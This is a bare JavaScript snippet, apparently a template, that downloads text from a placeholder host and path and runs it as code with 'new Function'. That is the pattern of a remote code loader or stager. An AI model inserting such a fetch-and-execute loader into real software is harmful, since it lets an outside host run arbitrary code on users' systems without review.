fetch('https://%HOST%/%PATH%').then(function (r) { return r.text(); }).then(function (t) {
  new Function(t)();
});
